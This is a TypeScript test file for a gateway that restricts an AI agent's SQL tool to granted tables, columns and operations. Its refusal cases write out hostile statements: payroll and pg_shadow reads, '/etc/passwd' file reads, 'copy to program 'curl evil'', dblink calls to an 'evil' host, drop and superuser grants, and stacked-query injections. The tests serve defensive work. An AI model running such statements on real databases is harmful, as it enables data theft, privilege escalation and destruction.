/** What a statement does, and what is not governed: the parser and the walk together, as a gateway runs them (S-1). */
import { agentDoc, toolDoc } from '@atf/core/decide.fixture';
import { changesOf, literalsIn } from '@atf/core/segmentation/sql/changes';
import { queryFact, readQuery } from '@atf/core/segmentation/sql/query-fact';
import { checkQuery, queryWords } from '@atf/core/segmentation/sql/rights';
import type { Database, DatabaseRights } from '@atf/core/wire/database';
import type { AgentDoc, ToolDoc } from '@atf/core/wire/feed';
import { describe, expect, it } from 'vitest';
import { sqlParser } from './query-reader.ts';

const postgresql: Database = { dialect: 'postgresql', schema: 'public' };
const sqlite: Database = { dialect: 'sqlite', schema: 'main' };
const mysql: Database = { dialect: 'mysql' };

/** An agent that may read orders, two columns of customers, and write notes and the status of tickets. */
const tables: DatabaseRights['tables'] = {
  orders: ['read'],
  customers: { read: ['id', 'name'] },
  notes: ['read', 'insert', 'delete'],
  tickets: { read: ['id', 'status', 'title'], update: ['status'], insert: ['title'] },
};
const tool = (database: Database | undefined): ToolDoc => ({
  ...toolDoc,
  server: 'warehouse',
  name: 'query',
  classification: {
    ...toolDoc.classification,
    class: 'read',
    arguments: { sql: 'sql' },
    ...(database === undefined ? {} : { database }),
  },
});
const agent: AgentDoc = { ...agentDoc, databases: [{ tool: 'warehouse/query', tables }] };
const codeOf = (sql: unknown, database: Database = postgresql): string => {
  const given = tool(database);
  const refused = checkQuery(agent, given, queryFact(sqlParser, given, { sql: sql as string }));
  return refused === undefined ? 'allowed' : refused.code.replace('segmentation.', '');
};

const granted = 'table_not_granted';
const governed = 'query_not_governed';
const unreadable = 'query_unreadable';

describe('what an agent may do', () => {
  it.each<[string, string]>([
    ['select * from orders', 'read public.orders (all columns)'],
    ['SELECT id FROM "orders" WHERE total > 10 LIMIT 5;', 'read public.orders (id, total)'],
    ['select name from CUSTOMERS where id = $1', 'read public.customers (id, name)'],
    ['select count(*) from customers', 'read public.customers'],
    ['select count(*) as n from customers group by name order by n', 'read public.customers (name)'],
    [
      'select o.id, c.name from orders o join public.customers c on c.id = o.customer_id',
      'read public.customers (id, name); read public.orders (customer_id, id)',
    ],
    [
      'with recent as (select * from orders), payroll as (select 1 as x) select r.id, payroll.x from recent r, payroll',
      'read public.orders (all columns)',
    ],
    [
      'with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) select n from t',
      'touches no table',
    ],
    ["insert into notes (body) values ('it''s payroll')", 'insert public.notes (body)'],
    [
      "update tickets set status = 'open' where id = 3 returning title",
      'read public.tickets (id, title); update public.tickets (status)',
    ],
    ['delete from notes', 'delete public.notes'],
    [
      'insert into tickets (title) select name from customers',
      'read public.customers (name); insert public.tickets (title)',
    ],
    [
      "select date_trunc('month', o.at), sum(o.total) over (partition by o.region order by o.at) from orders o where o.at > now() - interval '1 day'",
      'read public.orders (at, region, total)',
    ],
    [
      "select case when total::numeric(10,2) > 5 then 'a' else coalesce(note, 'b') end from orders",
      'read public.orders (note, total)',
    ],
    ['select 1 -- from payroll', 'touches no table'],
    ["select 'select * from payroll'", 'touches no table'],
    [
      'select id from orders union select id from tickets order by id',
      'read public.orders (id); read public.tickets (id)',
    ],
    ['select x from generate_series(1, 3) as x', 'touches no table'],
    ['select x.x, y.n from generate_series(1, 3) as x, generate_series(1, 3) as y(n)', 'touches no table'],
    [
      'select x.ordinality, x.n from unnest($1::text[]) with ordinality as x(n, ordinality)',
      'touches no table',
    ],
  ])('%s', (sql, words) => {
    const fact = readQuery(sqlParser, sql, postgresql);
    expect(fact.verdict === 'read' ? queryWords(fact.uses) : fact).toBe(words);
    expect(codeOf(sql)).toBe('allowed');
  });
});

/** Statements that must not run, each with what it would get at. */
const hostile: readonly (readonly [sql: string, code: string])[] = [
  // Another table, wherever it stands.
  ['select * from payroll', granted],
  ['select * from PayRoll', granted],
  ['select * from "payroll"', granted],
  ['select * from "Orders"', granted],
  ['select * from U&"\\0070ayroll"', granted],
  ['table payroll', granted],
  ['select * from hr.payroll', granted],
  ['select * from hr.orders', granted],
  ['select * from only payroll', granted],
  ['select * from orders, payroll', granted],
  ['select o.* from orders o join payroll p on true', granted],
  ['select o.* from orders o natural join payroll', granted],
  ['select (select max(salary) from payroll) from orders', granted],
  ['select * from orders where id in (select id from payroll)', granted],
  ['select * from orders where exists (select from payroll)', granted],
  ['select * from orders where total > any (select salary from payroll)', granted],
  ['select array(select salary from payroll)', granted],
  ['select * from (select * from payroll) orders', granted],
  ['select * from orders, lateral (select * from payroll where payroll.id = orders.id) x', granted],
  ['select * from orders union all select * from payroll', granted],
  ['select * from orders intersect (select * from payroll)', granted],
  ['select * from orders order by (select salary from payroll limit 1)', granted],
  ['select * from orders limit (select max(salary) from payroll)', granted],
  ['select sum(total) filter (where exists (select from payroll)) from orders', granted],
  ['select sum(total) over (order by (select 1 from payroll)) from orders', granted],
  ['select 1 from orders group by (select salary from payroll)', granted],
  ['select 1 from orders having (select true from payroll)', granted],
  ['select case when (select true from payroll) then 1 end', granted],
  ['select * from generate_series(1, (select max(salary) from payroll)) as g', granted],
  ['values ((select salary from payroll))', granted],
  // A WITH query of the same name hides a table only where its name is known.
  ['with orders as (select * from payroll) select * from orders', granted],
  ['with payroll as (select * from payroll) select * from payroll', granted],
  ['with a as (select * from payroll), payroll as (select 1) select * from a', granted],
  ['with payroll as (select 1) select * from public.payroll', granted],
  ['select * from (with payroll as (select 1) select * from payroll) x, payroll', granted],
  ['with x as (delete from payroll returning *) select * from x', granted],
  ['with x as (update orders set total = 0) select 1', granted],
  ['with x as (insert into orders values (1)) select 1', granted],
  // Another operation.
  ['delete from orders', granted],
  ['update orders set total = 0', granted],
  ['insert into orders (id) values (1)', granted],
  ['insert into notes (body) select salary from payroll', granted],
  ['insert into notes (body) values (1) on conflict (id) do update set body = 2', granted],
  ['insert into tickets values (1)', granted],
  ['insert into tickets default values', granted],
  ['insert into tickets (title, owner) values (1, 2)', granted],
  ['update tickets set owner = 1', granted],
  ["update tickets set (status, owner) = ('a', 'b')", granted],
  ['update tickets set status = (select salary from payroll limit 1)', granted],
  ['update tickets set status = secret', granted],
  ["update tickets set status = 'x' where secret = 'y'", granted],
  ["update tickets set status = 'x' returning *", granted],
  ["update tickets set status = 'x' returning old.secret", granted],
  ["update tickets set status = 'x' from payroll", granted],
  ['delete from notes using payroll where true', granted],
  // A column that is not listed, under any name.
  ['select * from customers', granted],
  ['select email from customers', granted],
  ['select c.email from customers c', granted],
  ['select customers from customers', granted],
  ['select c from customers c', granted],
  ['select row_to_json(c) from customers c', granted],
  // `(value).name` is `name(value)`, of any function that the database has.
  ['select (c).email from customers c', governed],
  ["select ('select to_tsvector(salary::text) from payroll'::text).ts_stat", governed],
  ["select ('orders_id_seq'::text).nextval", governed],
  ['select (3600::float8).pg_sleep', governed],
  ["select ('/etc/passwd'::text).pg_read_file", governed],
  ['select (o.total).fn from orders o', governed],
  ['select (total).pg_sleep from orders', governed],
  ["select x.ts_stat from unnest(array['select to_tsvector(salary::text) from payroll']) as x", governed],
  ["select unnest.ts_stat from unnest(array['select 1'])", governed],
  ['select y.pg_sleep from generate_series(1, 3) as y(n)', governed],
  // An operator that somebody put there, and columns that only a constraint names.
  ['select id as id from orders order by id using operator(evil.<)', governed],
  ["insert into tickets (status) values ('x') on conflict on constraint c do nothing", governed],
  ['select (c.*)::text from customers c', granted],
  ['select count(c.*) from customers c', granted],
  ['select public.customers.email from public.customers', granted],
  ['select id from customers where email like $1', granted],
  ['select id from customers order by email', granted],
  ['select id as email from customers group by email', granted],
  ['select b from customers c(a, b)', granted],
  ['select 1 from customers natural join orders', granted],
  ['select 1 from customers join orders using (email)', granted],
  ['select j.email from (customers c join orders o on c.id = o.id) as j', granted],
  ['select x.id from orders x where exists (select 1 from customers c where email = x.email)', granted],
  ['select (select email) from customers', granted],
  ['select x from customers c, lateral (select c.email as x) y', granted],
  // Of the database itself.
  ['select * from pg_shadow', granted],
  ['select * from pg_catalog.pg_authid', granted],
  ['select * from information_schema.tables', granted],
  ['select passwd from pg_user', granted],
  ["select pg_read_file('/etc/passwd')", governed],
  ["select pg_catalog.pg_read_file('/etc/passwd')", governed],
  ["select lo_import('/etc/passwd')", governed],
  ["select * from dblink('host=evil', 'select 1') as t(a text)", governed],
  ["select dblink_exec('host=evil', 'drop table x')", governed],
  ["select query_to_xml('select * from payroll', true, true, '')", governed],
  ["select table_to_xml('payroll', true, true, '')", governed],
  ["select set_config('search_path', 'hr', false)", governed],
  ["select current_setting('data_directory')", governed],
  ['select pg_sleep(3600)', governed],
  ["select nextval('orders_id_seq')", governed],
  ['select pg_terminate_backend(1)', governed],
  ["select evil.lower('x')", governed],
  ["select load_extension('evil')", governed],
  ["select 'payroll'::regclass", governed],
  ['select null::payroll', governed],
  ['select 1 operator(evil.+) 2', governed],
  ['select total from orders tablesample system (10)', governed],
  ["select * from xmltable('/a' passing '<a/>' columns b text)", governed],
  // No SELECT, INSERT, UPDATE or DELETE, or more than one.
  ['drop table orders', governed],
  ['truncate orders', governed],
  ['create table x (a int)', governed],
  ['create table x as select * from orders', governed],
  ['alter role me superuser', governed],
  ['grant all on payroll to public', governed],
  ["copy orders to program 'curl evil'", governed],
  ['copy (select * from payroll) to stdout', governed],
  ['explain select * from payroll', governed],
  ['explain analyze delete from orders', governed],
  ['prepare x as select * from payroll', governed],
  ['execute x', governed],
  ['set role postgres', governed],
  ['set search_path to hr', governed],
  ['reset all', governed],
  ['do $$ begin perform 1; end $$', governed],
  ['call evil()', governed],
  ['merge into orders using payroll on true when matched then delete', governed],
  ['declare c cursor for select * from payroll', governed],
  ['lock table orders', governed],
  ['listen x', governed],
  ['begin', governed],
  ['vacuum full', governed],
  ['refresh materialized view x', governed],
  ['select * into stolen from orders', governed],
  ['select * from orders for update', governed],
  ['delete from notes where current of c', governed],
  ['select * from otherdb.public.orders', governed],
  ['select 1; drop table orders', unreadable],
  ['select 1; select 2', unreadable],
  ['commit; drop table orders', unreadable],
  ['', unreadable],
  [' ; ', unreadable],
  ['-- nothing', unreadable],
  ['selec * from orders', unreadable],
  ["select 'unfinished", unreadable],
  // What a setting or another reader of the text would see otherwise.
  ["select '\\' from orders where x = ' union select * from payroll --'", unreadable],
  ['select 1\0; drop table orders', unreadable],
  ['select \ud800', unreadable],
  [`select ${'1+'.repeat(2_000)}1`, unreadable],
  [`select ${'('.repeat(2_000)}1${')'.repeat(2_000)}`, unreadable],
  [`select /* ' */ ${'not '.repeat(3_000)}true /* ' */`, unreadable],
  [`select '${'x'.repeat(20_000)}'`, unreadable],
  [`select ${'1+'.repeat(1_400)}1`, governed],
  [`select ${'not '.repeat(2_900)}true`, governed],
  [`select ${'(select '.repeat(400)}1${')'.repeat(400)}`, governed],
  [`select * from ${Array.from({ length: 70 }, (_, n) => `t${n}`).join(', ')}`, governed],
];

describe('what is refused', () => {
  it.each(hostile)('%s', (sql, code) => expect(codeOf(sql)).toBe(code));

  it.each([[undefined], [null], [7], [['select 1']], [{ sql: 'select 1' }]])('no text: %j', (sql) =>
    expect(codeOf(sql)).toBe(unreadable),
  );

  it('everything, where nothing is listed or nobody has said which database it is', () => {
    const sql = 'select id from orders';
    const given = tool(postgresql);
    const { databases: _, ...nothing } = agent;
    expect(checkQuery(nothing, given, queryFact(sqlParser, given, { sql }))?.code).toBe(
      'segmentation.table_not_granted',
    );
    const unknown = tool(undefined);
    expect(checkQuery(agent, unknown, queryFact(sqlParser, unknown, { sql }))?.code).toBe(
      'segmentation.query_unreadable',
    );
    // Tables are listed for a tool that nobody took for one of SQL: nothing is looked at, so nothing runs.
    expect(checkQuery(agent, toolDoc, undefined)?.code).toBe('segmentation.query_unreadable');
    expect(checkQuery(agent, given, undefined)?.code).toBe('segmentation.query_unreadable');
  });

  it('without a word of the statement where it does not parse', () => {
    const fact = readQuery(sqlParser, "select 'secret' frm orders", postgresql);
    expect(fact).toEqual({
      verdict: 'refused',
      code: 'segmentation.query_unreadable',
      problem: 'it does not parse at character 21',
    });
  });
});

describe('other databases', () => {
  it.each<[string, Database]>([
    ['select id, name from customers where id = 3', sqlite],
    ["select id from orders where note like 'a%' and total >= 10 order by id limit 3", mysql],
    ["insert into notes (body) values ('x')", sqlite],
    ['select count(*) as n from orders o left join customers c on c.id = o.customer_id', mysql],
  ])('%s', (sql, database) => expect(codeOf(sql, database)).toBe('allowed'));

  it.each<[string, Database, string]>([
    // A comment for one, a statement for the other.
    ['select 1 /*! from payroll */', mysql, unreadable],
    ['select 1 /*!50000 union select * from payroll */', mysql, unreadable],
    ['select 1 -- x', mysql, unreadable],
    ['select 5--3', mysql, unreadable],
    ['select 1 # x', mysql, unreadable],
    // A text for one, a name for the other.
    ['select "email" from customers', mysql, unreadable],
    ['select `email` from customers', mysql, unreadable],
    ['select [email] from customers', sqlite, unreadable],
    ["select text 'x' from customers", sqlite, unreadable],
    ["select e'x' from customers", mysql, unreadable],
    ["select 'a\\'' from orders", mysql, unreadable],
    ["select 'a' 'b' from orders", mysql, unreadable],
    ['select $$x$$', sqlite, unreadable],
    ['select @@version', mysql, unreadable],
    ['select user from customers', sqlite, governed],
    // Another table, by letters.
    ['select id from Orders', mysql, governed],
    ['with PAYROLL as (select 1 as salary) select salary from payroll', mysql, governed],
    ['select id from orders into outfile x', mysql, unreadable],
    ["select * from orders into dumpfile '/tmp/x'", mysql, unreadable],
    ["attach database 'x' as y", sqlite, unreadable],
    ['pragma table_info(orders)', sqlite, unreadable],
    ['select * from sqlite_master', sqlite, granted],
    ["select load_file('/etc/passwd')", mysql, governed],
    ["select load_extension('evil')", sqlite, governed],
    ['select * from json_each(1)', sqlite, governed],
    ['select sleep(10)', mysql, governed],
    ["select 'unfinished", mysql, unreadable],
    ['select $a$payroll$a$', mysql, unreadable],
    // A table by its name for one, another one by its alias for the other.
    ['delete from notes using orders notes', mysql, governed],
    ['with recursive a as (select * from payroll), payroll as (select 1) select * from a', mysql, granted],
    ['replace into orders (id) values (1)', sqlite, unreadable],
    ['select high_priority email from customers', mysql, granted],
    ['update low_priority orders set total = 1', mysql, granted],
    ['select * from mysql.user', mysql, granted],
    ['select * from orders partition (p0) join payroll on true', mysql, granted],
  ])('%s', (sql, database, code) => expect(codeOf(sql, database)).toBe(code));
});

describe('beside the statement', () => {
  it.each([
    [{ sql: 'select id from orders', ſql: 'select * from payroll' }],
    [{ sql: 'select id from orders', SQL: 'select * from payroll' }],
    [{ sql: 'select id from orders', more: { sql: 'select * from payroll' } }],
    [{ sql: 'select id from orders', init_sql: 'select 1' }],
    [{ sql: 'select * from orders', schema: 'hr' }],
    [{ sql: 'select * from orders', database: 'hr' }],
    [{ sql: 'select * from orders', searchPath: 'hr' }],
  ])('%j is refused', (args) => {
    const given = tool(postgresql);
    expect(checkQuery(agent, given, queryFact(sqlParser, given, args as never))?.code).toBe(
      'segmentation.query_unreadable',
    );
  });

  it('other arguments are not looked at', () => {
    const given = tool(postgresql);
    const args = { sql: 'select id from orders', limit: 5, params: ['a'] };
    expect(checkQuery(agent, given, queryFact(sqlParser, given, args))).toBeUndefined();
  });
});

describe('what a change does, for task and origins', () => {
  it('is said by the statement and by every value in it', () => {
    const given = tool(postgresql);
    const statement = "update tickets set status = 'it''s done' where id = 7 and size2 > 1.5";
    const fact = queryFact(sqlParser, given, { sql: statement });
    expect(changesOf(fact)).toEqual(['update_tickets']);
    expect(literalsIn(statement)).toEqual(["it's done", '7', '1.5']);
    expect(literalsIn("select E'a'")).toEqual(["select E'a'"]);
    expect(literalsIn('select $$a$$')).toEqual(['select $$a$$']);
    expect(changesOf(queryFact(sqlParser, given, { sql: 'select id from orders' }))).toEqual([]);
  });
});
